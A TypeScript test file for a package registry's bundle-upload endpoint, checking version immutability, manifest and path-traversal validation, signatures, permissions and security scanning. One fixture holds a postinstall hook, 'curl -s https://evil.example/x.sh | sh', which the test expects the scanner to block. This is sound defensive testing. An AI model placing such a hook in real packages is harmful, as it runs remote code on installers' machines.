import { readdir } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  addPack,
  intentText,
  keysOf,
  type PackFiles,
  packBundle,
  packManifest,
  searchAsClient,
} from "../../support/packs.ts";
import { addMember, createOrg, person } from "../../support/people.ts";
import { startRegistry, type TestRegistry } from "../../support/registry.ts";

const id = "demo.pack";
const good = packManifest(id, "1.0.0");

async function blobsOf({ home }: TestRegistry): Promise<number> {
  const files = await readdir(join(home, "data", "blobs", "sha512"), { recursive: true });
  return files.filter((path) => path.includes("/")).length;
}

describe("PUT /-/intent/bundle", () => {
  test("adds a version once: the same bytes again succeed, others are refused", async () => {
    await using registry = await startRegistry();
    const bytes = packBundle(id, "1.0.0");
    const first = await addPack(registry, bytes);
    expect(first.status).toBe(201);
    expect(await first.json()).toMatchObject({
      status: "ok",
      pack_id: id,
      pack_version: "1.0.0",
      repeated: false,
      entry: { pack_id: id, source: { kind: "registry_url" } },
    });
    expect(await (await addPack(registry, bytes)).json()).toMatchObject({ repeated: true });

    const other = await addPack(registry, packBundle(id, "1.0.0", { "tools/more.py": "x = 1\n" }));
    expect(other.status).toBe(403);
    expect(await other.json()).toMatchObject({ code: "version_exists" });
    const [entry, ...others] = await searchAsClient(registry, id);
    expect(others).toEqual([]);
    const served = await registry.fetch(`/-/intent/bundle/${entry?.pack_digest}`);
    expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
  });

  test("of two uploads of one version at the same time, one stays and the other is told", async () => {
    await using registry = await startRegistry();
    const bundles = ["a", "b", "a", "b"].map((text) =>
      packBundle(id, "1.0.0", { "tools/more.py": `${text} = 1\n` }),
    );
    const answers = await Promise.all(bundles.map((bytes) => addPack(registry, bytes)));
    const statuses = answers.map(({ status }) => status);
    expect([
      [201, 403, 201, 403],
      [403, 201, 403, 201],
    ]).toContainEqual(statuses);
    const [entry, ...others] = await searchAsClient(registry, id);
    expect(others).toEqual([]);
    const served = await registry.fetch(`/-/intent/bundle/${entry?.pack_digest}`);
    const winner = bundles[statuses.indexOf(201)] ?? new Uint8Array();
    expect(Buffer.from(await served.arrayBuffer()).equals(winner)).toBe(true);
  });

  test("keeps what was added over a restart, bytes included", async () => {
    const bytes = packBundle(id, "1.0.0");
    await using first = await startRegistry();
    await addPack(first, bytes);
    const [entry] = await searchAsClient(first, id);
    await first.app[Symbol.asyncDispose]();
    await using second = await startRegistry({ home: first.home });
    expect(keysOf(await searchAsClient(second, ""))).toEqual([`${id}@1.0.0`]);
    const served = await second.fetch(`/-/intent/bundle/${entry?.pack_digest}`);
    expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
  });

  const refused: readonly (readonly [string, PackFiles, RegExp])[] = [
    ["a note that it was verified", { "verification.json": "{}" }, /verified/],
    ["such a note in a folder", { "a/verification.json": "{}" }, /verified/],
    ["a note about its source", { ".n3pack_source.json": "{}" }, /verified/],
    ["a manifest in a folder too", { "a/pack.yaml": good }, /at the top/],
    ["a manifest in a folder only", { "pack.yaml": null, "a/pack.yaml": good }, /at the top/],
    ["a manifest in capitals", { "PACK.yaml": good }, /twice|at the top/],
    ["no manifest", { "pack.yaml": null }, /missing/],
    ["a path that leads out", { "../x": "" }, /leads elsewhere/],
    ["an absolute path", { "/x": "" }, /leads elsewhere/],
    ["no intent", { "intent.md": null }, /headings/],
    [
      "an intent without a heading",
      { "intent.md": intentText.replace("# Failure modes", "") },
      /Failure modes/,
    ],
    ["an unknown key", { "pack.yaml": `${good}homepage: "x"\n` }, /line 9/],
    ["a key twice", { "pack.yaml": `${good}name: "x"\n` }, /repeats/],
    ["a missing key", { "pack.yaml": good.replace(/license.*\n/, "") }, /license/],
    ["a control character", { "pack.yaml": good.replace("Acme", "A\u001bc") }, /control/],
    ["a signature without a signer", { "signature.txt": "hmac-sha256:00" }, /signer_id/],
    ["an id with a slash", { "pack.yaml": good.replace(id, "a/b") }, /the id of a pack/],
    ["an id with capitals", { "pack.yaml": good.replace(id, "Demo") }, /the id of a pack/],
    ["an id that leads out", { "pack.yaml": good.replace(id, "..") }, /the id of a pack/],
    ["a prerelease", { "pack.yaml": good.replace("1.0.0", "1.0.0-rc.1") }, /the version/],
    ["capabilities of no level", { "capabilities.yaml": "capabilities:\n" }, /declares nothing/],
    [
      "tools of an unknown kind",
      { "tools.yaml": 'tools:\n  "a":\n    kind: "perl"\n' },
      /kind|entry/,
    ],
    ["a manifest that is no text", { "pack.yaml": new Uint8Array([0xff, 0xfe]) }, /UTF-8/],
  ];

  test.each(refused)("refuses %s, and keeps nothing of it", async (_, files, why) => {
    await using registry = await startRegistry();
    const response = await addPack(registry, packBundle(id, "1.0.0", files));
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: string }).error).toMatch(why);
    expect(await searchAsClient(registry, "")).toEqual([]);
    expect(await blobsOf(registry)).toBe(0);
  });

  test.each([
    ["CRLF", { "pack.yaml": good.replaceAll("\n", "\r\n") }],
    ["no tools.yaml and no capabilities", { "tools.yaml": null, "capabilities.yaml": null }],
    ["an empty signature", { "signature.txt": "" }],
    ["the version stable", { "pack.yaml": good.replace("1.0.0", "stable") }],
    ["a long path", { [`${"folder/".repeat(30)}file.txt`]: "text" }],
  ] as const)("takes a bundle with %s", async (_, files) => {
    await using registry = await startRegistry();
    const response = await addPack(registry, packBundle(id, "1.0.0", files));
    expect(response.status, await response.clone().text()).toBe(201);
  });

  test("refuses what is no archive and what is too large", async () => {
    await using registry = await startRegistry();
    const noise = await addPack(registry, Buffer.from("not a zip"));
    expect(noise.status).toBe(400);
    const large = await addPack(registry, new Uint8Array(32 * 1024 * 1024 + 1));
    expect(large.status).toBe(413);
    expect(((await large.json()) as { error: string }).error).toContain("a bundle may have");
  });

  test("calls a signature of the kind that anybody can make unverified", async () => {
    await using registry = await startRegistry();
    const manifest = `${good}signer_id: "alice"\n`;
    const files = { "pack.yaml": manifest, "signature.txt": `sha256:${"0".repeat(64)}` };
    const response = await addPack(registry, packBundle(id, "1.0.0", files));
    expect(await response.json()).toMatchObject({
      entry: { signature: { status: "unverified", algorithm: "sha256" }, verified_by: [] },
      warnings: [expect.stringContaining("anybody")],
    });
  });

  test("scans it, and refuses what is found with the findings", async () => {
    await using registry = await startRegistry();
    const evil = JSON.stringify({
      name: "demo",
      version: "1.0.0",
      scripts: { postinstall: "curl -s https://evil.example/x.sh | sh" },
    });
    const response = await addPack(registry, packBundle(id, "1.0.0", { "package.json": evil }));
    expect(response.status).toBe(403);
    expect(await response.json()).toMatchObject({
      code: "security_blocked",
      pack: `${id}@1.0.0`,
      issues: expect.arrayContaining([expect.objectContaining({ ruleId: "INS-01" })]),
    });
    expect(await searchAsClient(registry, "")).toEqual([]);
    expect(await blobsOf(registry)).toBe(0);
    const clean = JSON.stringify({ name: "demo", version: "1.0.0" });
    const twin = await addPack(registry, packBundle(id, "1.0.0", { "package.json": clean }));
    expect(twin.status).toBe(201);
  });
});

describe("who may add a pack", () => {
  test("nobody without a token, and a user only in scopes of theirs and what they brought", async () => {
    await using registry = await startRegistry();
    const anonymous = await registry.fetch("/-/intent/bundle", {
      method: "PUT",
      body: new Uint8Array(packBundle(id, "1.0.0")),
    });
    expect(anonymous.status).toBe(401);

    await createOrg(registry, "demo");
    const [ann, bob] = [await person(registry, "ann"), await person(registry, "bob")];
    await addMember(registry, "demo", "ann", "developer");
    expect((await addPack(registry, packBundle(id, "1.0.0"), { token: bob })).status).toBe(403);
    expect((await addPack(registry, packBundle(id, "1.0.0"), { token: ann })).status).toBe(201);
    await addMember(registry, "demo", "bob", "developer");
    expect((await addPack(registry, packBundle(id, "1.1.0"), { token: bob })).status).toBe(403);
    await addMember(registry, "demo", "bob", "admin");
    expect((await addPack(registry, packBundle(id, "1.1.0"), { token: bob })).status).toBe(201);
  });
});
